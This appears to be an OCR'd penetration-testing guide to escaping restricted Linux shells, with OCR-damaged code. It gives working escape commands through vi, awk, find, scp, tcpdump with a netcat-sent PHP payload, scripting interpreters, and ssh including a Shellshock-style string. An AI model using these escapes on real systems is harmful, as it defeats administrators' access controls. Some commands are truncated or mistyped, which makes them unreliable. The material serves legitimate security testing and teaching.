How to Escape from Restricted Shells

Escape from Restricted Shells

At a Glance

Restricted shells limit the default available capabilities of a regular shell and allow only a subset of system commands. Typically, a combination of some or all of the following restrictions are set1:

  • Using the cd command.
  • Setting or unsetting environment variables.
  • Commands that contain slashes.
  • Filename containing a slash as an argument to the . built-in command.
  • Filename containing a slash as an argument to the -p option to the hash built-in command.
  • Importing function definitions from the shell environment at startup.
  • Parsing the value of SHELLOPTS from the shell environment atstartup.
  • Output redirection using the >, >|, ", >&, &>, and >> operators.
  • Using -exec built-in to replace the shell with another command.
  • Adding or deleting built-in commands with the -f and -d options to the enable built-in.
  • Using the enable built-in command to enable disabled shell built-ins.
  • Specifying the -p option to the command built-in.
  • Turning off restricted mode with set +r or set +o restricted.


The env command returns information about the current SHELL and PATH. If it’s not available, try echoing $0 and $PATH separately. 2

Note: $0 returns the name of the running process. If usedinside of a shell it will return the name of the shell.

List the PATH content to see which commands are available. If ls is not available, you can echo * to “glob” the directory’s content.

echo /usr/local/rbin/*

Research each available command to see if there are known shell escapes associated with them. Some of the techniques can be combined together.

Environment Variables

Look for writable variables. Execute export -p to list exported variables. Most of the time SHELL and PATH will be -rx, meaning they are executable but not writable. If they are writable, simply set SHELL to your shell of choice, or PATH to a directory with exploitable commands.

Copying Files

Try to find writable directories where you can execute commands from, inside, or outside your PATH.

Note: If you’re able to copy a file into PATH, then you’ll be able to bypass the forward-slash restriction.

Other ways to copy files, or get access to them, include mounting devices, use programs like scp or ftp, or create symbolic links.




:set shell=/bin/bash

Command execution

:! /bin/ps


$VISUAL sets the program to invoke when the visual editor is called.

set VISUAL=/bin/vi
mail -s "subject"

Start the visual editor with ~v and escape VIM.


lynx /etc/passwd

Enter the options with o, change the Editor to /bin/vi. Edit the file with e and escape VIM

Set EDITOR to /bin/vi. Open a webpage and edit a textbox. Escape VIMawk 'BEGIN {system("/bin/sh")}'


find / -name 0xffsec -exec /bin/awk 'BEGIN {system("/bin/sh")}' \;


Read files with -F

scp -F /etc/passwd validfile remote:

Run commands with -S.

echo $'#!/bin/sh\n/usr/bin/id' >
chmod +x
scp -S ./script validfile remote:
  • -F <file>: Specifies an alternative per-user configuration file for ssh.
  • -S <program>: Name of program to use for the encrypted connection.


Use tcpdump to capture network traffic containing a malicious script.

tcpdump -n -G 1 -z /usr/bin/php -U -A udp port 8080
  • -n: Don’t convert addresses (i.e., host addresses, port numbers, etc.) to names.
  • -G <seconds>: Rotates the dump file specified with the -w option every <seconds> sec.
  • -w <file>: Write the raw packets to file rather than parsing and printing them out.
  • -U: If the -w option is not specified, make the printed packet output packet-buffered (it will be written to the standard output).
  • -z <command> <file>: Used in conjunction with the -C or -G options, this will make tcpdump run <command> where <file> is the savefile being closed after each rotation.
  • -A: Print each packet (minus its link level header) in ASCI

Send a network packet with the PHP script.

echo "<?php system('id');?>" | nc -u 8080


Programs such as more, less, man, ftp, gdb let you run subshells. Type ! followed by a command. Try the following:

'! /bin/sh'Try invoking a shell through an available language.


exit_code = os.system('/bin/sh') output = os.popen('/bin/sh').read()


exec "/bin/sh";
perl -e 'exec "/bin/sh";'

Ruby / irb

exec "/bin/sh"



Unrestricted Mode

Some restricted shells start running files in an unrestricted mode before the restricted shell is applied. If .bash_profile is executed in an unrestricted mode, and it’s editable, you’ll be able to execute code and commands as an unrestricted user.

From The Outside

Command Execution

Execute a command before the remote shell is loaded.

ssh user@ -t "/bin/sh"Start a remote shell with an unrestricted profile.

ssh user@ -t "bash --noprofile"


ssh user@ -t "(){:;}; /bin/bash"


Output Redirection

Since redirection operators (> or >>) are usually restricted, the tee command can help you redirect the output of, for example, the echo command.

echo '#!/usr/bin/env bash' | tree
echo '# Your code' | tee -a

Further Reading

  1. Wright, Joshua. “SANS Penetration Testing | Escaping Restricted Linux Shells.” SANS Institute. ↩

  2. “$0 - Linux Shell Scripting Tutorial - A Beginner’s Handbook.” NixCraft – Bash ShellScripting Directory,$0. ↩

  3. “Lynx Users Guide.” LYNX – The Text Web-Browser, ↩4. “Breaking out of Rbash Using Scp.” Pentestmonkey| Taking the Monkey Work out of Pentesting, ↩

  5. “How to Break out of Restricted Shells with Tcpdump.” Insinuator.Net, ↩